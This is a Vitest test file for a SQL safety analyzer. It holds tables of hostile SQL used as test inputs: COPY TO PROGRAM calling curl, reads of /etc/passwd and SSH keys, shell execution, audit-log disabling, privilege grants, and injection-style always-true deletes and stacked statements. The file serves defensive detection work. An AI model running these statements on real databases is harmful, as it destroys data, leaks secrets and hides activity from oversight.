import { beforeAll, describe, expect, it } from 'vitest';
import type { SqlClient, SqlDialect } from './index.js';
import { analyzeSql, initSql } from './index.js';

beforeAll(async () => {
  await initSql();
});

/** `category/effect` of each finding, to compare against a table. */
function seen(sql: string, dialect: SqlDialect, client?: SqlClient): string[] {
  return analyzeSql(sql, dialect, client ? { client } : undefined).map((f) => `${f.category}/${f.effect}`);
}

type Row = [sql: string, dialect: SqlDialect, expected: string[]];

function table(name: string, rows: Row[]): void {
  describe(name, () => {
    it.each(rows)('%s (%s)', (sql, dialect, expected) => {
      const got = seen(sql, dialect);
      if (expected.length === 0) expect(got).toEqual([]);
      else expect(got).toEqual(expect.arrayContaining(expected));
    });
  });
}

table('DROP, TRUNCATE and ALTER ... DROP are destroy.database', [
  ['DROP TABLE customers', 'postgres', ['destroy.database/drop']],
  ['drop table if exists public.customers cascade', 'postgres', ['destroy.database/drop']],
  ['DROP DATABASE crm', 'postgres', ['destroy.database/drop']],
  ['DROP SCHEMA billing CASCADE', 'postgres', ['destroy.database/drop']],
  ['DROP INDEX idx_orders_created_at', 'postgres', ['destroy.database/drop']],
  ['DROP VIEW v_orders', 'postgres', ['destroy.database/drop']],
  ['DROP FUNCTION f(int)', 'postgres', ['destroy.database/drop']],
  ['DROP MATERIALIZED VIEW mv', 'postgres', ['destroy.database/drop']],
  ['DROP OWNED BY app', 'postgres', ['destroy.database/drop-owned']],
  ['TRUNCATE orders', 'postgres', ['destroy.database/truncate']],
  ['TRUNCATE TABLE a, b RESTART IDENTITY', 'postgres', ['destroy.database/truncate']],
  ['ALTER TABLE users DROP COLUMN email', 'postgres', ['destroy.database/alter-drop']],
  ['ALTER TABLE users DROP CONSTRAINT users_pkey', 'postgres', ['destroy.database/alter-drop']],
  ['DROP DATABASE crm', 'mysql', ['destroy.database/drop']],
  ['DROP TABLE `users`', 'mysql', ['destroy.database/drop']],
  ['TRUNCATE TABLE cart_items', 'mysql', ['destroy.database/truncate']],
  ['ALTER TABLE t DROP COLUMN c', 'mysql', ['destroy.database/alter-drop']],
  ['DROP PROCEDURE cleanup', 'mysql', ['destroy.database/drop']],
  ['DROP TABLE users', 'sqlite', ['destroy.database/drop']],
  ['DROP TABLE analytics.events ON CLUSTER main SYNC', 'clickhouse', ['destroy.database/drop']],
  ['ALTER TABLE events DROP PARTITION 202401', 'clickhouse', ['destroy.database/alter-drop']],
  ['ALTER TABLE events CLEAR COLUMN payload IN PARTITION 202401', 'clickhouse', ['destroy.database/alter-drop']],
  ['DETACH TABLE events PERMANENTLY', 'clickhouse', ['destroy.database/detach']],
  ['DROP TABLE customers', 'generic', ['destroy.database/drop']],
]);

table('DELETE / UPDATE that does not narrow is bulk.delete', [
  ['DELETE FROM orders', 'postgres', ['bulk.delete/delete-all']],
  ['UPDATE users SET email_verified = false', 'postgres', ['bulk.delete/update-all']],
  ['DELETE FROM audit_log WHERE true', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE 1=1', 'postgres', ['bulk.delete/delete-all']],
  ["DELETE FROM t WHERE 'a'='a'", 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE x = x', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE id = 5 OR 1=1', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE id IS NOT NULL OR true', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE NOT false', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE id IS NOT NULL', 'postgres', ['bulk.delete/delete-all']],
  ["DELETE FROM t WHERE name LIKE '%'", 'postgres', ['bulk.delete/delete-all']],
  ["UPDATE t SET a = 1 WHERE 'yes'::boolean", 'postgres', ['bulk.delete/update-all']],
  ['DELETE FROM t WHERE EXISTS (SELECT 1)', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE lower(a) = lower(a)', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE 1 IN (1, 2)', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE 2 NOT IN (1)', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE 2 BETWEEN 1 AND 3', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE id IN (id)', 'postgres', ['bulk.delete/delete-all']],
  ['DELETE FROM `t` WHERE 1 IN (1, 2)', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM `t` WHERE 2 BETWEEN 1 AND 3', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM cart_items', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE 1', 'mysql', ['bulk.delete/delete-all']],
  ["DELETE FROM t WHERE 'a'='a' OR TRUE", 'mysql', ['bulk.delete/delete-all']],
  ['UPDATE users SET a = 1 WHERE NOT false', 'mysql', ['bulk.delete/update-all']],
  ['DELETE FROM t ORDER BY id LIMIT 1000', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE id = 5 || 1', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE "x" = \'x\'', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM t WHERE !(id = id)', 'mysql', []],
  ['DELETE FROM t WHERE id != 3 OR 1', 'mysql', ['bulk.delete/delete-all']],
  ['DELETE FROM t1 WHERE 2 > 1', 'sqlite', ['bulk.delete/delete-all']],
  ['ALTER TABLE events DELETE WHERE 1 = 1', 'clickhouse', ['bulk.delete/delete-all']],
  ['ALTER TABLE events UPDATE status = 0 WHERE true', 'clickhouse', ['bulk.delete/update-all']],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'postgres', ['bulk.delete/delete-all']],
  ['WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', 'postgres', ['bulk.delete/delete-all']],
  ['WITH x AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM x', 'postgres', ['bulk.delete/update-all']],
  ['SELECT * FROM a WHERE id IN (WITH d AS (DELETE FROM b RETURNING id) SELECT id FROM d)', 'postgres', ['bulk.delete/delete-all']],
  ['EXPLAIN ANALYZE DELETE FROM t', 'postgres', ['bulk.delete/delete-all']],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 2', 'postgres', ['bulk.delete/update-all']],
  ['PREPARE p AS DELETE FROM t', 'postgres', ['bulk.delete/delete-all']],
  ["PREPARE s FROM 'DELETE FROM t'", 'mysql', ['bulk.delete/delete-all']],
]);

table('narrowing DELETE / UPDATE and reads are harmless', [
  ['DELETE FROM orders WHERE id = 42', 'postgres', []],
  ['UPDATE users SET name = $1 WHERE id = $2', 'postgres', []],
  ['DELETE FROM t WHERE created_at < now() - interval \'30 days\'', 'postgres', []],
  ['DELETE FROM t WHERE id = 5 AND 1=1', 'postgres', []],
  ['DELETE FROM t WHERE 1=0 OR id = 3', 'postgres', []],
  ['DELETE FROM t WHERE id IN (1, 2)', 'postgres', []],
  ['DELETE FROM t WHERE 5 IN (1, 2) OR id = 4', 'postgres', []],
  ['DELETE FROM t WHERE id BETWEEN 1 AND 3', 'mysql', []],
  ['DELETE FROM `t` WHERE id NOT IN (1)', 'mysql', []],
  ['DELETE FROM t USING s WHERE t.id = s.id', 'postgres', []],
  ['DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id', 'mysql', []],
  ['UPDATE orders SET status = 2 WHERE id = 1001', 'mysql', []],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'postgres', []],
  ['SELECT * FROM orders', 'postgres', []],
  ['SELECT * FROM orders', 'mysql', []],
  ['EXPLAIN DELETE FROM t', 'postgres', []],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'postgres', []],
  ['EXPLAIN SELECT * FROM orders WHERE customer_id = 42', 'postgres', []],
  ['SHOW search_path', 'postgres', []],
  ['SHOW DATABASES', 'mysql', []],
  ['SHOW TABLES FROM shop', 'mysql', []],
  ["SHOW GLOBAL STATUS LIKE 'Threads_connected'", 'mysql', []],
  ['DESCRIBE orders', 'mysql', []],
  ['SELECT relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace', 'postgres', []],
  ['INSERT INTO audit (msg) VALUES (\'x\')', 'postgres', []],
  ['CREATE TABLE t (id int primary key)', 'postgres', []],
  ['SELECT count() FROM hits WHERE CounterID = 62 FORMAT JSON', 'clickhouse', []],
  ['SELECT * FROM system.parts WHERE active SETTINGS max_threads = 1', 'clickhouse', []],
  ["SELECT replace(url, 'http', 'https') FROM hits FINAL LIMIT 5", 'clickhouse', []],
  ['ALTER TABLE events DELETE WHERE date < today() - 30', 'clickhouse', []],
  ['PRAGMA table_info(users)', 'sqlite', []],
  ['BEGIN; UPDATE t SET a = 1 WHERE id = 3; COMMIT', 'postgres', []],
  ['   ', 'postgres', []],
  ['-- only a comment', 'postgres', []],
]);

table('lookalikes: SQL words in strings, comments and names', [
  ["SELECT count(*) FROM events WHERE name = 'user_deleted'", 'postgres', []],
  ["SELECT 'DROP TABLE x'", 'postgres', []],
  ["SELECT 'DROP TABLE x'", 'mysql', []],
  ["SELECT $$DROP TABLE x$$", 'postgres', []],
  ['SELECT 1 -- DROP TABLE x', 'postgres', []],
  ['SELECT 1 /* DROP TABLE x; DELETE FROM y */', 'postgres', []],
  ['SELECT 1 # DROP TABLE x', 'mysql', []],
  ['SELECT id FROM t WHERE delete_flag = false', 'postgres', []],
  ['SELECT delete_flag, drop_date FROM t WHERE id = 1', 'mysql', []],
  ["SELECT proname FROM pg_proc WHERE proname LIKE '%drop%' LIMIT 5", 'postgres', []],
  ['SELECT "DROP" FROM t WHERE id = 1', 'postgres', []],
  ["SELECT 'it''s; DROP TABLE x'", 'postgres', []],
  ["SELECT 'a\\'; DROP TABLE x; -- '", 'mysql', []],
  ['/* DELETE FROM t */ SELECT 1', 'sqlite', []],
]);

table('shell and file access from SQL', [
  ["COPY t TO PROGRAM 'curl -T - http://example.com'", 'postgres', ['evasion/copy-program']],
  ["COPY t FROM PROGRAM 'id'", 'postgres', ['evasion/copy-program']],
  ["COPY (SELECT * FROM users) TO '/tmp/users.csv'", 'postgres', ['exfiltration/copy-to-file']],
  ["COPY t FROM '/etc/passwd'", 'postgres', ['secrets.read/copy-from-file']],
  ['COPY t TO STDOUT', 'postgres', []],
  ["SELECT pg_read_file('/etc/passwd')", 'postgres', ['secrets.read/read-server-file']],
  ["SELECT lo_import('/etc/shadow')", 'postgres', ['secrets.read/read-server-file']],
  ["SELECT lo_export(1234, '/tmp/x')", 'postgres', ['exfiltration/write-server-file']],
  ["SELECT LOAD_FILE('/etc/passwd')", 'mysql', ['secrets.read/read-server-file']],
  ["SELECT * FROM a WHERE x = (SELECT load_file('/root/.ssh/id_rsa'))", 'mysql', ['secrets.read/read-server-file']],
  ["SELECT * FROM users INTO OUTFILE '/tmp/u.txt'", 'mysql', ['exfiltration/into-outfile']],
  ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", 'mysql', ['secrets.read/load-data-infile']],
  ["SELECT sys_exec('id')", 'mysql', ['evasion/shell-exec']],
  ["SELECT load_extension('/tmp/x.so')", 'sqlite', ['evasion/load-extension']],
  ["SELECT writefile('/tmp/x', 'y')", 'sqlite', ['evasion/write-file']],
  ["SELECT * FROM file('/etc/passwd', 'LineAsString')", 'clickhouse', ['secrets.read/read-server-file']],
  ["SELECT * FROM executable('x.sh', 'TSV', 'a String')", 'clickhouse', ['evasion/shell-exec']],
  ["INSERT INTO FUNCTION url('http://example.com/x', 'CSV') SELECT * FROM users", 'clickhouse', ['exfiltration/remote-table-function']],
  ["SELECT dblink_exec('host=example.com', 'DROP TABLE x')", 'postgres', ['exfiltration/dblink', 'destroy.database/drop']],
  ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", 'postgres', ['bulk.delete/delete-all']],
  ['SELECT query_to_xml(current_setting(\'x\'), true, false, \'\')', 'postgres', ['evasion/dynamic-sql']],
  ["LOAD 'auto_explain'", 'postgres', ['evasion/load-library']],
]);

table('procedural code', [
  ["DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", 'postgres', ['destroy.database/drop']],
  ["DO $$ BEGIN DELETE FROM t; END $$", 'postgres', ['bulk.delete/delete-all']],
  ["DO $$ BEGIN EXECUTE 'DELETE ' || 'FROM t'; END $$", 'postgres', ['bulk.delete/delete-all']],
  ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$", 'postgres', ['destroy.database/drop']],
  ["DO $$ DECLARE q text := 'x'; BEGIN EXECUTE q; END $$", 'postgres', ['evasion/dynamic-sql']],
  ["DO $$ DECLARE s text; BEGIN s := pg_read_file('/etc/passwd'); RAISE NOTICE '%', s; END $$", 'postgres', ['secrets.read/read-server-file']],
  ["DO $$ BEGIN IF true THEN PERFORM pg_terminate_backend(42); END IF; END $$", 'postgres', ['system.disrupt/terminate-backend']],
  ["DO LANGUAGE plpython3u $$ import os; os.system('id') $$", 'postgres', ['evasion/untrusted-code']],
  ["DO $$ BEGIN RAISE NOTICE 'hello'; END $$", 'postgres', []],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$", 'postgres', ['evasion/untrusted-code']],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$", 'postgres', ['bulk.delete/delete-all']],
  ['CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$', 'postgres', []],
  ['CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()', 'postgres', ['persistence/trigger']],
  ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'postgres', ['persistence/event-trigger']],
]);

table('privileges, accounts, server settings', [
  ['GRANT ALL ON ALL TABLES IN SCHEMA public TO bob', 'postgres', ['privilege.escalation/grant-all']],
  ['GRANT pg_execute_server_program TO bob', 'postgres', ['privilege.escalation/grant-role']],
  ['ALTER USER bob WITH SUPERUSER', 'postgres', ['privilege.escalation/alter-role-privilege']],
  ["CREATE USER bob WITH PASSWORD 'x' SUPERUSER", 'postgres', ['privilege.escalation/create-privileged-role', 'persistence/create-role']],
  ["CREATE USER 'x'@'%' IDENTIFIED BY 'p'", 'mysql', ['persistence/create-role']],
  ["GRANT ALL ON *.* TO 'x'@'%'", 'mysql', ['privilege.escalation/grant-all']],
  ['GRANT SUPER ON *.* TO x', 'mysql', ['privilege.escalation/grant']],
  ["ALTER USER 'x'@'%' IDENTIFIED BY 'y'", 'mysql', ['persistence/set-password']],
  ["ALTER SYSTEM SET log_statement = 'none'", 'postgres', ['system.disrupt/alter-system', 'audit.tamper/disable-log']],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'postgres', ['system.disrupt/terminate-backend']],
  ['KILL 42', 'mysql', ['system.disrupt/kill']],
  ['SHUTDOWN', 'mysql', ['system.disrupt/shutdown']],
  ['SYSTEM SHUTDOWN', 'clickhouse', ['system.disrupt/shutdown']],
  ['KILL QUERY WHERE user = \'x\'', 'clickhouse', ['system.disrupt/kill']],
  ['SET sql_safe_updates = 0', 'mysql', ['evasion/disable-safe-updates']],
  ['SET sql_log_bin = 0', 'mysql', ['audit.tamper/disable-binlog']],
  ['SET GLOBAL general_log = OFF', 'mysql', ['audit.tamper/disable-log']],
  ['SET GLOBAL max_connections = 1', 'mysql', ['system.disrupt/server-setting']],
  ['SET session_replication_role = replica', 'postgres', ['evasion/disable-triggers']],
  ["SET pgaudit.log = 'none'", 'postgres', ['audit.tamper/pgaudit']],
  ["SELECT set_config('session_replication_role', 'replica', false)", 'postgres', ['evasion/disable-triggers']],
  ['PURGE BINARY LOGS BEFORE NOW()', 'mysql', ['audit.tamper/purge-binlog']],
  ['SET ROLE admin', 'postgres', ['privilege.escalation/set-role']],
  ['SET SESSION AUTHORIZATION postgres', 'postgres', ['privilege.escalation/set-role']],
  ["CALL sys.execute_prepared_stmt('DROP TABLE x')", 'mysql', ['destroy.database/drop']],
  ["CALL sys.execute_prepared_stmt(\"DROP TABLE x\")", 'mysql', ['destroy.database/drop']],
  ['CALL sys.execute_prepared_stmt(@q)', 'mysql', ['evasion/dynamic-sql']],
  ['SET ROLE NONE', 'postgres', []],
  ['SET statement_timeout = 0', 'postgres', []],
  ['SET NAMES utf8mb4', 'mysql', []],
  ['REVOKE ALL ON t FROM bob', 'postgres', []],
]);

table('MySQL executable comments run; ordinary comments do not', [
  ['/*!50000 DROP TABLE t */', 'mysql', ['destroy.database/drop', 'evasion/executable-comment']],
  ['/*! DROP TABLE t */', 'mysql', ['destroy.database/drop']],
  ['SELECT 1 /*!, (SELECT LOAD_FILE(\'/etc/passwd\')) */', 'mysql', ['secrets.read/read-server-file']],
  ['SELECT 1 /*! ; DROP TABLE x */', 'mysql', ['destroy.database/drop']],
  ['/*M! DROP DATABASE d */', 'mysql', ['destroy.database/drop']],
  ['/*!50000 DROP TABLE t */', 'generic', ['destroy.database/drop']],
  ['/*! DROP TABLE t */ SELECT 1', 'postgres', []],
  ['DELETE FROM t -- WHERE id=1', 'mysql', ['bulk.delete/delete-all', 'evasion/comment-hides-clause']],
  ['DELETE FROM t /* WHERE id=1 */', 'mysql', ['bulk.delete/delete-all', 'evasion/comment-hides-clause']],
  ['DELETE FROM t # WHERE id=1', 'mysql', ['bulk.delete/delete-all', 'evasion/comment-hides-clause']],
  ['DELETE FROM orders -- WHERE id = 42', 'postgres', ['bulk.delete/delete-all', 'evasion/comment-hides-clause']],
  ['DELETE FROM t WHERE id = 1 -- AND tenant = 2', 'postgres', []],
]);

table('multi-statement input', [
  ['SELECT 1; DROP TABLE customers', 'postgres', ['destroy.database/drop', 'evasion/multi']],
  ['SELECT 1; SELECT 2; DELETE FROM t', 'mysql', ['bulk.delete/delete-all', 'evasion/multi']],
  ["SELECT 'a;b'; TRUNCATE t", 'postgres', ['destroy.database/truncate', 'evasion/multi']],
  ['SELECT 1; SELECT 2', 'postgres', []],
  ['SELECT 1;;; SELECT 2;', 'mysql', []],
  ['DROP TABLE a; DROP TABLE b', 'postgres', ['destroy.database/drop']],
]);

table('unparseable SQL fails closed', [
  ['garbage here )(', 'postgres', ['evasion/unparsed']],
  ['SELEC * FORM t', 'mysql', ['evasion/unparsed']],
  ['DELETE FROM', 'postgres', ['evasion/unparsed']],
  ["SELECT 'unterminated", 'postgres', ['evasion/unterminated']],
  ['frobnicate the database', 'clickhouse', ['evasion/unparsed']],
  ['SELECT * FROM t FINAL; SELECT 1 FROM t FINAL WHERE x IN (DELETE FROM u)', 'clickhouse', ['evasion/unparsed']],
  ['SELECT :var', 'postgres', ['evasion/unparsed']],
]);

describe('analyzeSql contract', () => {
  it('returns a fresh array of well-formed findings', () => {
    const [f] = analyzeSql('DROP TABLE customers', 'postgres');
    expect(f).toMatchObject({ category: 'destroy.database', severity: 'critical', effect: 'drop', tables: ['customers'] });
    expect(typeof f?.explanation).toBe('string');
  });

  it('names the tables a bulk statement touches', () => {
    expect(analyzeSql('DELETE FROM shop.orders', 'postgres')[0]?.tables).toEqual(['shop.orders']);
  });

  it('treats an unknown dialect as generic instead of throwing', () => {
    expect(seen('DROP TABLE x', 'oracle' as SqlDialect)).toContain('destroy.database/drop');
  });

  it('fails closed on input too large to analyse', () => {
    expect(seen(`SELECT ${'1+'.repeat(70_000)}1`, 'postgres')).toEqual(['evasion/too-large']);
    expect(seen('SELECT 1;'.repeat(1001), 'mysql')).toEqual(['evasion/too-large']);
  });

  it('follows nested dynamic SQL only to a bounded depth', () => {
    let sql = 'DROP TABLE x';
    for (let i = 0; i < 10; i++) sql = `SELECT query_to_xml('${sql.replace(/'/g, "''")}', true, false, '')`;
    expect(seen(sql, 'postgres')).toContain('evasion/too-deep');
  });

  it('is idempotent to initialise', async () => {
    await Promise.all([initSql(), initSql()]);
    expect(seen('SELECT 1', 'postgres')).toEqual([]);
  });
});
